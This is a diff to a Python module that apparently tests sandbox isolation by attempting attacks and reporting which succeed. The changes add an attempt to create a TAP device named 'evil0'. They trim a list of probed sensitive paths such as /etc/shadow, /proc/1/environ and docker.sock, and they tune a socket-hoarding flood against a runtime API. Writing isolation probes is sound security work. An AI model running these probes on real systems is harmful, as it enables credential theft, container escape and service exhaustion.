@@ -5,6 +5,7 @@ Every attempt is named; what an attack returns are the attempts that succeeded, 
 
 import ctypes
 import errno
+import fcntl
 import os
 import socket
 import struct
@@ -103,7 +104,14 @@ def call(number, *arguments):
 
 
 def privileged(event):
-    return [name for name, error in calls(PRIVILEGED).items() if error is None]
+    done = [name for name, error in calls(PRIVILEGED).items() if error is None]
+    try:
+        with open("/dev/net/tun", "rb+", buffering=0) as tun:
+            fcntl.ioctl(tun, 0x400454CA, struct.pack("16sH14x", b"evil0", 2))
+            done.append("make a tap")
+    except OSError:
+        pass
+    return done
 
 
 def kernel(event):
@@ -111,10 +119,10 @@ def kernel(event):
 
 
 FILES = """/dev/mem /dev/kmem /dev/port /dev/kmsg /dev/vda /dev/vport0p1 /dev/vport1p1 /dev/virtio-ports /dev/kvm
-/dev/fuse /dev/net/tun /dev/loop-control /dev/loop0 /dev/console /dev/tty0 /dev/ttyS0 /dev/hvc0 /dev/rtc0 /dev/hpet
+/dev/fuse /dev/loop-control /dev/loop0 /dev/console /dev/tty0 /dev/ttyS0 /dev/hvc0 /dev/rtc0 /dev/hpet
 /dev/sda /dev/userfaultfd /dev/cpu/0/msr /proc/kcore /proc/kmsg /proc/sysrq-trigger /proc/1/mem /proc/1/environ
-/proc/1/maps /proc/1/root /proc/1/cwd /proc/1/ns/mnt /proc/bus/pci /proc/acpi /proc/scsi /sys/kernel/debug/sched
-/sys/kernel/tracing/trace /sys/fs/bpf /sys/firmware/acpi/tables /etc/shadow /root /run/docker.sock
+/proc/1/maps /proc/1/root /proc/1/cwd /proc/1/ns/mnt /sys/kernel/debug/sched
+/sys/kernel/tracing/trace /sys/firmware/acpi/tables /etc/shadow /root /run/docker.sock
 /var/run/docker.sock""".split()
 
 
@@ -262,11 +270,10 @@ def half_open(event):
     refused = 0
     for number in range(event["connections"]):
         s = socket.socket()
-        s.setblocking(False)
         HOARD.append(s)
         try:
             s.setblocking(True)
-            s.settimeout(2)
+            s.settimeout(0.5)
             s.connect(RUNTIME_API)
             s.settimeout(0.01)
             s.send(requests[number % len(requests)])
